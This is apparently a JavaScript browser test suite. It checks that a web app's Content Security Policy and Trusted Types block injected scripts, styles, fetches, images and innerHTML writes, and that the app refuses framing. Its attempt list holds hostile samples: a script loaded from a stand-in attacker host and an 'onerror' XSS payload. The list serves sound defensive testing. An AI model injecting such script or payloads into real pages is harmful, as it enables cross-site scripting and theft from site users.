// What the pages may not do, even if somebody got a word in.
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { eventually } from "./support/eventually.mjs";
import { world } from "./support/world.mjs";

const ATTEMPTS = {
  "script-src-elem": () => {
    const policy = trustedTypes.createPolicy("evil", { createScriptURL: (url) => url });
    const script = document.createElement("script");
    script.src = policy.createScriptURL("https://evil.example/x.js");
    document.head.append(script);
  },
  "style-src-elem": () => {
    const style = document.createElement("style");
    style.textContent = "body { display: none }";
    document.head.append(style);
  },
  "connect-src": () => fetch("https://evil.example/").catch(() => undefined),
  "img-src": () => {
    new Image().src = "https://evil.example/x.png";
  },
  "require-trusted-types-for": () => {
    try {
      document.body.innerHTML = "<img src=x onerror=alert(1)>";
    } catch {
      // That is what should happen.
    }
  },
};

describe("a page of the desk", () => {
  const here = world();

  for (const path of ["/", "/demo"]) {
    it(`refuses, at ${path}, what it did not bring itself, and these tests hear of it`, async () => {
      const page = await here.browser.page();
      await page.goto(here.desk.address + path);
      await page.locator("button").first().waitFor();
      here.browser.assertQuiet();
      for (const attempt of Object.values(ATTEMPTS)) await page.evaluate(attempt);
      const heard = [];
      await eventually(async () => {
        heard.push(...here.browser.troubles());
        return Object.keys(ATTEMPTS).filter((name) => !heard.some((it) => it.startsWith(name)));
      }, []);
      await page.close();
      here.browser.troubles();
    });
  }

  it("is in nobody's frame", async () => {
    const answer = await fetch(here.desk.address);
    assert.match(answer.headers.get("content-security-policy"), /frame-ancestors 'none'/);
  });
});
